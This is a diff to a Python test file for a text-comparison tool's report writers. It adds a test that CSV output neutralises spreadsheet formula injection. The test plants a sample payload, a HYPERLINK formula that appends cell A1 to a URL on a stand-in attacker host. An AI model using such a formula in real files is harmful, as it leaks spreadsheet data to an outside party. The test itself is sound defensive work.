@@ -17,6 +17,7 @@ from conftest import SEED_CAND, SEED_REF
 from qualcheck import check
 from qualcheck.report import FORMATS, htmlfmt, markdown, tmx, write_reports
 from qualcheck.report.schema import SCHEMA_PATH, errors, load_schema
+from qualcheck.report.csvfmt import defuse
 from qualcheck.report.table import COLUMNS
 
 XML_LANG = "{http://www.w3.org/XML/1998/namespace}lang"
@@ -124,7 +125,8 @@ def test_csv_stable_columns_and_round_trip(seed_report, tmp_path):
     assert len(rows) == len(seed_report.findings)
     for row, f in zip(rows, seed_report.findings):
         assert row["id"] == f.id and row["category"] == f.category and row["severity"] == f.severity
-        assert row["message"] == f.message and row["cand_text"] == f.cand_text and row["ref_text"] == f.ref_text
+        assert row["message"] == defuse(f.message) and row["cand_text"] == defuse(f.cand_text or "")
+        assert row["ref_text"] == defuse(f.ref_text or "")
         for col, span in (("ref", f.ref_span), ("cand", f.cand_span)):
             if span:
                 assert (int(row[f"{col}_start"]), int(row[f"{col}_end"])) == tuple(span)
@@ -134,6 +136,21 @@ def test_csv_stable_columns_and_round_trip(seed_report, tmp_path):
         assert row["accepted"] in ("true", "false")
         occ = [tuple(map(int, o.split("-"))) for o in row["occurrences"].split(";") if o]
         assert occ == [tuple(o) for o in f.occurrences]
+
+
+def test_csv_never_carries_a_live_spreadsheet_formula(encoder, tmp_path):
+    planted = '=HYPERLINK("http://evil.example/?"&A1,"click") is not news. The council met on Monday.'
+    ref = "The council met on Monday. It approved the budget."
+    report = check(ref, planted + " It approved the budget.", encoder=encoder)
+    assert any((f.cand_text or "").startswith("=") for f in report.findings)  # the finding quotes it as is
+    paths = write_reports(report, tmp_path, ["csv", "json"])
+    rows = list(csv.DictReader(io.StringIO(paths["csv"].read_text(encoding="utf-8"))))
+    for row in rows:
+        for col in ("ref_text", "cand_text", "message", "suggestion"):
+            assert not row[col].startswith(("=", "+", "-", "@")), (col, row[col])
+    assert any(row["cand_text"].startswith("'=HYPERLINK") for row in rows)
+    data = json.loads(paths["json"].read_text(encoding="utf-8"))
+    assert any(f["cand_text"].startswith("=HYPERLINK") for f in data["findings"])  # JSON keeps the exact text
 
 
 # ---- Markdown -----------------------------------------------------------------------------
